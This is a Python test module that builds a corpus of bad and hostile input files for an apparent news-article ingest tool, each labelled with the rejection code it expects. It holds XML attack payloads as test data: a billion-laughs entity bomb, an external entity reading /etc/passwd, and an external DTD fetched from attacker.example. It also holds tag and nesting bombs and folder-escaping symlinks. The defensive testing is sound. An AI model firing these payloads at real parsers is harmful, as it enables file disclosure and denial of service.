"""A corpus of bad and hostile inputs, built in code (never committed as files), beside a few good articles.

:func:`build_corpus` writes every item into one folder and returns what each should become: a rejection
with a given reason code (one line in the run report), or a stored article (good articles, and hostile
but readable content, which must be stored with its oddities made harmless).
"""

from __future__ import annotations

import json
import os
import zlib
from dataclasses import dataclass, field
from pathlib import Path

from sitreps.ingest.article import MAX_TEXT_CHARS

# Written for these tests: short wire-style reports, long enough for language detection.
STORY = (
    "Soldiers from the two armies exchanged fire overnight near the river crossing, the defence ministry "
    "said on Tuesday. Two soldiers were wounded, and the situation was calm by dawn."
)
SECOND = (
    "Talks between the foreign ministers resumed in the capital on Wednesday, officials said, after a week "
    "of shelling along the northern section of the border."
)
THIRD = (
    "A convoy carrying food and medicine reached the besieged town on Thursday, aid workers said, the first "
    "to get through since the road was cut in the spring."
)
FIFTY_MB = 50 * 1024 * 1024
FIVE_MB = 5 * 1024 * 1024


@dataclass(frozen=True)
class Bad:
    """One bad input: the kind it stands for, and the reason code its report line must carry."""

    kind: str
    source: str  # as the run report names it: the path, path:LINE or path#N
    code: str


@dataclass
class Corpus:
    root: Path
    bad: list[Bad] = field(default_factory=list)
    # Sources of articles that must be stored, and what must hold for the hostile ones.
    good: list[str] = field(default_factory=list)
    hostile: dict[str, str] = field(default_factory=dict)  # source -> kind

    def put(self, name: str, content: str | bytes) -> Path:
        path = self.root / name
        path.parent.mkdir(parents=True, exist_ok=True)
        path.write_bytes(content.encode("utf-8") if isinstance(content, str) else content)
        return path

    def reject(self, kind: str, name: str, content: str | bytes, code: str) -> Path:
        path = self.put(name, content)
        self.bad.append(Bad(kind, str(path), code))
        return path

    def keep(self, name: str, content: str | bytes, hostile: str | None = None) -> Path:
        path = self.put(name, content)
        self.good.append(str(path))
        if hostile:
            self.hostile[str(path)] = hostile
        return path


def png() -> bytes:
    """A real 1x1 PNG, made here."""

    def chunk(kind: bytes, data: bytes) -> bytes:
        body = kind + data
        return len(data).to_bytes(4, "big") + body + zlib.crc32(body).to_bytes(4, "big")

    header = chunk(b"IHDR", (1).to_bytes(4, "big") * 2 + bytes([8, 2, 0, 0, 0]))
    pixels = chunk(b"IDAT", zlib.compress(b"\x00\xff\x00\x00"))
    return b"\x89PNG\r\n\x1a\n" + header + pixels + chunk(b"IEND", b"")


def pdf() -> bytes:
    return (
        b"%PDF-1.4\n%\xe2\xe3\xcf\xd3\n1 0 obj\n<< /Type /Catalog /Pages 2 0 R >>\nendobj\n"
        b"2 0 obj\n<< /Type /Pages /Kids [] /Count 0 >>\nendobj\ntrailer\n<< /Root 1 0 R >>\n%%EOF\n"
    )


def elf() -> bytes:
    header = b"\x7fELF\x02\x01\x01\x00" + bytes(8) + b"\x02\x00\x3e\x00\x01\x00\x00\x00"
    return header + bytes(64 - len(header)) + b"\x90" * 64


def billion_laughs() -> str:
    entities = "".join(f'<!ENTITY lol{i} "{("&lol" + str(i - 1) + ";") * 10}">' for i in range(1, 10))
    return (
        f'<?xml version="1.0"?><!DOCTYPE rss [<!ENTITY lol0 "lol">{entities}]>'
        '<rss version="2.0"><channel><title>&lol9;</title>'
        "<item><title>x</title><description>&lol9;</description></item></channel></rss>"
    )


def rss(*items: str, title: str = "Border Wire") -> str:
    entries = "".join(
        f"<item><title>Entry {n}</title><link>https://example.org/{n}</link>"
        f"<pubDate>Tue, 13 Sep 2022 08:00:00 +0000</pubDate><description>{text}</description></item>"
        for n, text in enumerate(items, start=1)
    )
    return f'<?xml version="1.0"?><rss version="2.0"><channel><title>{title}</title>{entries}</channel></rss>'


def build_corpus(root: Path) -> Corpus:
    """Every kind of bad input (at least 20) and some good articles, in one folder."""
    c = Corpus(root)
    # Good articles, one per reader.
    c.keep("good/plain.txt", STORY)
    c.keep("good/front-matter.md", f"---\ntitle: Talks resume\ndate: 2022-09-14\n---\n{SECOND}\n")
    c.keep(
        "good/page.html",
        f"<html><head><title>Aid</title></head><body><article><p>{THIRD}</p></article></body></html>",
    )

    # Empty, blank, invisible.
    c.reject("empty file", "bad/empty.txt", b"", "R001")
    c.reject("whitespace only", "bad/whitespace.txt", " \n\t\r\n   \n", "R002")
    c.reject(
        "zero-width and right-to-left marks only",
        "bad/invisible.txt",
        "\u200b\u200f\u202e\u2066\ufeff\u2069 \n",
        "R002",
    )
    # Binary content under a text name.
    c.reject("PNG image", "bad/scan-png.txt", png(), "R003")
    c.reject("PDF document", "bad/report-pdf.md", pdf(), "R003")
    c.reject("ELF executable", "bad/program-elf.html", elf(), "R003")
    c.reject("control characters", "bad/controls.txt", bytes(range(1, 9)) * 64 + b"text", "R003")
    c.reject("binary with NUL bytes", "bad/nul.txt", b"words\x00\x00\x00\x01\x02\x00more words\x00", "R003")
    # Encodings.
    c.reject(
        "invalid UTF-8, no encoding fits", "bad/invalid-utf8.txt", bytes(range(0x80, 0x100)) * 40, "R004"
    )
    c.reject(
        "UTF-16 with a BOM, broken",
        "bad/broken-utf16.txt",
        b"\xff\xfe" + "ok".encode("utf-16-le") + b"\x00",
        "R004",
    )
    # Sizes.
    big = root / "bad" / "fifty-mb.txt"
    with big.open("wb") as sink:
        line = (STORY + "\n").encode("utf-8")
        block = line * (1024 * 1024 // len(line) + 1)
        while sink.tell() < FIFTY_MB:
            sink.write(block)
    c.bad.append(Bad("50 MB text", str(big), "R005"))
    one_line = ((STORY + " ") * (FIVE_MB // (len(STORY) + 1) + 1))[:FIVE_MB]
    assert len(one_line) > MAX_TEXT_CHARS and "\n" not in one_line
    c.reject("a single 5 MB line", "bad/one-line.txt", one_line, "R019")
    # HTML.
    c.reject(
        "HTML with only scripts",
        "bad/scripts.html",
        "<html><head><script>var a = 1;</script></head><body>"
        "<script>document.write('x')</script><noscript>Enable JavaScript</noscript></body></html>",
        "R006",
    )
    c.reject(
        "HTML bomb of repeated tags",
        "bad/tag-bomb.html",
        "<html><body>" + "<b>x</b>" * 100_001 + "</body></html>",
        "R018",
    )
    c.reject(
        "deeply nested HTML", "bad/nested.html", "<html><body>" + "<div>" * 50_000 + "</body></html>", "R006"
    )
    # JSON and JSON Lines.
    records = c.put("bad/records.jsonl", "\n".join([
        json.dumps({"text": STORY.replace("Tuesday", "Monday"), "title": "From JSONL", "date": "2022-09-12"}),
        '{"text": "unterminated',
        "not json at all",
        json.dumps({"text": 42}),
        json.dumps({"text": SECOND.replace("Wednesday", "Friday"), "date": 1663027200}),
        json.dumps([1, 2, 3]),
        json.dumps({"title": "no text field"}),
    ]) + "\n")  # fmt: skip
    c.good.append(f"{records}:1")
    for line, kind, code in (
        (2, "JSON Lines: a truncated line", "R007"),
        (3, "JSON Lines: a line that is not JSON", "R007"),
        (4, "JSON Lines: text of the wrong type", "R009"),
        (5, "JSON Lines: a date of the wrong type", "R009"),
        (6, "JSON Lines: a record that is not an object", "R009"),
        (7, "JSON Lines: a record without text", "R008"),
    ):
        c.bad.append(Bad(kind, f"{records}:{line}", code))
    c.reject("JSON nested too deeply", "bad/deep.json", "[" * 100_000 + "]" * 100_000, "R016")
    # Feeds.
    c.reject("feed with entity expansion (billion laughs)", "bad/laughs.rss", billion_laughs(), "R015")
    c.reject(
        "feed with an external entity",
        "bad/external.xml",
        '<?xml version="1.0"?><!DOCTYPE rss [<!ENTITY secret SYSTEM "file:///etc/passwd">]>'
        '<rss version="2.0"><channel><title>&secret;</title><item><description>&secret;</description>'
        "</item></channel></rss>",
        "R015",
    )
    c.reject("feed with an external DTD", "bad/external-dtd.rss",
             '<?xml version="1.0"?><!DOCTYPE rss SYSTEM "http://attacker.example/evil.dtd">'
             '<rss version="2.0"><channel><title>t</title></channel></rss>', "R015")  # fmt: skip
    c.reject("feed without entries", "bad/empty-feed.rss", rss(), "R010")
    c.reject(
        "XML that is not a feed",
        "bad/not-a-feed.xml",
        '<?xml version="1.0"?><catalog><book/></catalog>',
        "R011",
    )
    feed = c.put("bad/mixed-feed.rss", rss(THIRD.replace("Thursday", "Saturday"), ""))
    c.good.append(f"{feed}#1")
    c.bad.append(Bad("feed entry without text", f"{feed}#2", "R008"))
    # Text with nothing after its front matter.
    c.reject(
        "front matter and no text", "bad/only-front-matter.md", "---\ntitle: Nothing here\n---\n\n", "R017"
    )
    # Files that cannot be read, and links out of the folder.
    outside = root.parent / f"{root.name}-outside"
    outside.mkdir(exist_ok=True)
    (outside / "secret.txt").write_text(SECOND, encoding="utf-8")
    link = root / "bad" / "escape.txt"
    link.symlink_to(outside / "secret.txt")
    c.bad.append(Bad("symbolic link to a file outside the folder", str(link), "R014"))
    folder_link = root / "bad" / "escape-folder"
    folder_link.symlink_to(outside, target_is_directory=True)
    c.bad.append(Bad("symbolic link to a folder outside the folder", str(folder_link), "R014"))
    broken = root / "bad" / "broken-link.txt"
    broken.symlink_to(root / "bad" / "nowhere.txt")
    c.bad.append(Bad("broken symbolic link", str(broken), "R012"))
    fifo = root / "bad" / "pipe.txt"
    os.mkfifo(fifo)
    c.bad.append(Bad("named pipe (not a regular file)", str(fifo), "R012"))
    if os.geteuid() != 0:  # root reads any file whatever its mode
        locked = c.reject("file without read permission", "bad/locked.txt", STORY, "R012")
        locked.chmod(0)

    # Hostile but readable content: stored, with the oddities made harmless.
    c.keep(
        "hostile/utf16-no-bom.txt",
        STORY.replace("Tuesday", "Sunday").encode("utf-16-le"),
        "UTF-16 LE without BOM",
    )
    c.keep(
        "hostile/utf16be-no-bom.txt",
        SECOND.replace("Wednesday", "Sunday").encode("utf-16-be"),
        "UTF-16 BE without BOM",
    )
    c.keep(
        "hostile/mixed-encodings.txt",
        "Troops shelled positions near Kəlbəcər on Monday, the ministry said.\n".encode()
        + "Les soldats ont été blessés à Goris, a déclaré le ministère lundi.\n".encode("cp1252"),
        "mixed encodings",
    )
    c.keep("hostile/impossible-dates.md", "---\ntitle: Dates\ndate: 31 February 2022\n---\n"
           "On 31 February 2022 and in the year 9999 troops shelled the village of Sotk, killing 1e309 people"
           " and 10^309 soldiers, the ministry said.\n", "impossible dates and numbers")  # fmt: skip
    c.keep("hostile/far-future.md", "---\ntitle: Far future\ndate: 9999-12-31\n---\n"
           "Troops shelled the village of Sotk tomorrow and the day after tomorrow, next week and next year,"
           " the ministry said.\n", "year 9999")  # fmt: skip
    c.keep(
        "hostile/bidi-zero-width.txt",
        "\u202eTroops\u202c shelled\u200b positions near \u2067Goris\u2069 on Monday,\u200d the"
        " \u200fministry said, and \u2066three\u2069 soldiers were wounded in the\u200e attack.",
        "right-to-left and zero-width characters",
    )
    c.keep("hostile/emoji.txt", "🔥 Troops shelled positions near Kapan on Monday 💥, the ministry said; "
           "two soldiers were wounded 🚑 and a school was damaged 🏫.", "emoji")  # fmt: skip
    c.keep("hostile/controls.txt", "Troops shelled\x07 positions near Jermuk\x1b on Monday\x01, the ministry"
           "\x08 said, and\x7f one soldier was wounded.\x0c Officials gave no other figures.",
           "control characters")  # fmt: skip
    return c
